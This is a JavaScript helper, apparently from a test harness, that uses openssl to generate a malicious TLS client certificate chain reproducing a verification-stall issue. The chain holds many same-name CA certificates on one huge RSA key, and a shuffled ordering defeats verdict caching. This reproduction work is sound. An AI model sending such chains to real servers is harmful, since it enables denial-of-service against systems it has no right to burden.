// The client chain of issue #21's stall: a leaf plus `count` self-issued CA certificates that all
// share one large RSA key (16,384 bits by default) and one name, so a Go-rules verifier tries
// issuer after issuer (each a large-key signature check) until Go's limit of 100. The key is made
// once with openssl and kept at `keyFile` (minutes for 16,384 bits); the certificates are made
// per run (each is one signature with that key). Nothing here is trusted by any server.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

export function attackChain(dir, { keyFile, bits = 16_384, count = 10 }) {
  const openssl = (...args) => execFileSync('openssl', args, { cwd: dir, stdio: ['ignore', 'ignore', 'pipe'] });
  if (!existsSync(keyFile)) {
    mkdirSync(dirname(keyFile), { recursive: true });
    openssl('genrsa', '-out', `${keyFile}.partial`, String(bits));
    renameSync(`${keyFile}.partial`, keyFile);
  }
  const p = (f) => join(dir, `attack-${f}`);
  const cas = [];
  for (let i = 1; i <= count; i++) {
    openssl(
      'req',
      '-x509',
      '-new',
      '-key',
      keyFile,
      '-subj',
      '/CN=attack-ca',
      '-days',
      '2',
      '-set_serial',
      String(i),
      '-sha256',
      '-addext',
      'basicConstraints=critical,CA:TRUE',
      '-addext',
      'keyUsage=critical,keyCertSign',
      '-out',
      p(`ca-${i}.pem`),
    );
    cas.push(readFileSync(p(`ca-${i}.pem`), 'utf8'));
  }
  openssl('req', '-new', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', p('leaf.key'), '-out', p('leaf.csr'), '-subj', '/CN=attacker');
  writeFileSync(p('leaf.ext'), 'extendedKeyUsage=clientAuth\n');
  openssl('x509', '-req', '-in', p('leaf.csr'), '-CA', p('ca-1.pem'), '-CAkey', keyFile, '-set_serial', '100', '-days', '2', '-sha256', '-out', p('leaf.pem'), '-extfile', p('leaf.ext'));
  const leaf = readFileSync(p('leaf.pem'), 'utf8');
  return {
    key: readFileSync(p('leaf.key'), 'utf8'),
    leaf,
    cas,
    /** The leaf and the CAs in a fixed order (one list: a verdict cache answers it after the first time). */
    cert: leaf + cas.join(''),
    /** The leaf and the CAs in a random order: a different list on nearly every call, so each costs a full check. */
    shuffled: () => {
      const order = [...cas];
      for (let i = order.length - 1; i > 0; i--) {
        const j = Math.floor(Math.random() * (i + 1));
        [order[i], order[j]] = [order[j], order[i]];
      }
      return leaf + order.join('');
    },
  };
}
